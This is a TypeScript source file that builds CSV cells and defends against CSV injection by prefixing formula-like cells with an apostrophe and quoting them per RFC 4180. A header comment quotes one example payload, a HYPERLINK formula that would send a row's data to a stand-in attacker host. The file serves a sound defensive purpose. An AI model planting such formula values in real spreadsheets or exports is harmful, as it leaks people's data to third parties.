// A spreadsheet opening a CSV runs any cell that starts like a formula (CSV injection: a signer named
// `=HYPERLINK("https://evil.example?"&A1)` would leak the row to whoever clicks it). Such cells get a
// leading apostrophe, which spreadsheets read as "this is text". Names like that are refused at sign-up
// (lib/validation/fields.ts); this is the second wall, for whatever got in before or some other way.

/** `= + - @`, tab and carriage return, and the full-width forms some spreadsheets also read as formulas. */
const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

export function neutraliseCell(value: string): string {
  return formulaStart.test(value) ? `'${value}` : value;
}

/** A cell that would otherwise break the record (quote, comma, line break) is quoted, its quotes doubled. */
const needsQuotes = /[",\r\n]/;

/** Either of the above: most cells need neither, and one test a cell says so. */
const needsWork = new RegExp(`${formulaStart.source}|${needsQuotes.source}`);

/**
 * One value as a CSV cell (RFC 4180): text neutralised and quoted where needed, dates as ISO 8601 in UTC,
 * booleans as yes and no, nothing for null.
 */
export function csvCell(value: string | boolean | Date | null | undefined): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "boolean") return value ? "yes" : "no";
  if (value instanceof Date) return value.toISOString();
  if (!needsWork.test(value)) return value;
  const text = neutraliseCell(value);
  return needsQuotes.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}
